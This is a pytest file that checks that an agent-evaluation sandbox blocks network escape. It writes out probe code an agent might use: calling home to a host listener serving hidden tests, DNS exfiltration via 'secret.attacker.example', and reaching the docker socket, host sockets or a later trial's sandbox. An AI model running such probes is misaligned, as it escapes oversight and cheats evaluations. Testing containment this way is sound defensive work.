"""Nothing leaves a sandbox by a socket."""

from __future__ import annotations

import os
import socket
import threading
from pathlib import Path

import pytest
from sandbox_stage import Stage, bubblewrap_only, each_sandbox, result  # noqa: F401

from steelyard.sandboxes.base import Command


def test_calling_home_to_a_listener_on_the_host() -> None:
    """The agent connects to every address of the host on a port where a server waits for the hidden tests."""
    with socket.socket() as listener, Stage() as stage:
        listener.bind(("0.0.0.0", 0))  # noqa: S104  # the attack's own listener
        listener.listen()
        port = listener.getsockname()[1]
        code = f"""
import socket
for host in ("127.0.0.1", "10.0.0.1", "169.254.169.254", "192.168.0.1", "172.17.0.1", "1.1.1.1"):
    try: socket.create_connection((host, {port}), 2); print("connected", host)
    except OSError as error: print(error.errno)
"""
        assert "connected" not in result(stage.python(code))
        listener.settimeout(0)
        with pytest.raises(BlockingIOError):
            listener.accept()


def test_smuggling_out_by_dns() -> None:
    """The agent resolves secret.attacker.example, for the name server's log to read."""
    with Stage() as stage:
        done = stage.python("import socket; socket.getaddrinfo('secret.attacker.example', 80)")
        assert done.exit_code == 1
        assert "gaierror" in done.stderr.text


def test_talking_to_an_abstract_socket_of_the_host() -> None:
    """The agent connects to an abstract unix socket, which no mount namespace hides."""
    name = f"\0steelyard-test-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as listener, Stage() as stage:
        listener.bind(name)
        listener.listen()
        code = f"import socket; socket.socket(socket.AF_UNIX).connect({name!r})"
        assert "ConnectionRefusedError" in result(stage.python(code))


def test_asking_the_docker_daemon_for_a_privileged_container() -> None:
    """The agent looks for the docker socket, which is root on the host."""
    with Stage() as stage:
        assert "[0]" not in result(stage.sh("ls /var/run/docker.sock || ls /run/docker.sock"))


@pytest.mark.parametrize("family", ["AF_VSOCK", "AF_PACKET", "AF_ALG", "AF_BLUETOOTH", "AF_CAN"])
def test_a_socket_family_that_no_network_namespace_holds_back(family: str) -> None:
    """The agent opens a socket to the hypervisor, the wire or the kernel's crypto code."""
    with Stage() as stage:
        assert "Address family not supported" in result(
            stage.python(f"import socket; socket.socket(socket.{family}, 1)")
        )


def test_only_loopback_exists() -> None:
    """The agent lists the network interfaces; none of the host's is there."""
    with Stage() as stage:
        done = stage.python("import socket; print([name for _, name in socket.if_nameindex()])")
        assert done.stdout.text == "['lo']\n"


def test_its_own_loopback_works() -> None:
    """An honest test suite starts a server and talks to it."""
    code = """
import socket
server = socket.create_server(("127.0.0.1", 0))
client = socket.create_connection(server.getsockname())
server.accept()[0].sendall(b"hi")
print(client.recv(9))
"""
    with Stage() as stage:
        assert stage.python(code).stdout.text == "b'hi'\n"


def test_two_sandboxes_do_not_share_a_loopback() -> None:
    """The agent of one trial leaves a server for the agent of the next."""
    serve = "import socket, time; s = socket.create_server(('127.0.0.1', 5555)); print(1, flush=True); time.sleep(6000)"
    listening = threading.Event()
    command = Command(("/usr/bin/python3", "-I", "-c", serve))
    with Stage() as first, Stage() as second:
        thread = threading.Thread(target=lambda: first.sandbox.run(command, lambda *_: listening.set()))
        thread.start()
        assert listening.wait(600)
        done = second.python("import socket; socket.create_connection(('127.0.0.1', 5555), 2)")
        assert "ConnectionRefusedError" in result(done)
        first.stop()
        thread.join()


def test_the_hosts_network_is_there_only_when_asked_for() -> None:
    """The namespace of the sandbox is not the host's."""
    with Stage() as stage:
        inside = stage.sh("readlink /proc/self/ns/net").stdout.text.strip()
    assert inside != str(Path("/proc/self/ns/net").readlink())


@bubblewrap_only
def test_addresses_that_tests_take_for_silence_are_silent() -> None:
    """No attack: a test that wants a connection to time out must not hear that there is no network."""
    code = """
import socket
for host in ("10.255.255.1", "192.0.2.1", "198.51.100.7", "203.0.113.254", "10.255.254.1", "1.1.1.1"):
    try: socket.create_connection((host, 80), 0.1); print("connected", host)
    except OSError as error: print(error)
"""
    with Stage() as stage:
        said_of_each = stage.python(code).stdout.text.splitlines()
    assert said_of_each == ["timed out"] * 4 + ["[Errno 101] Network is unreachable"] * 2
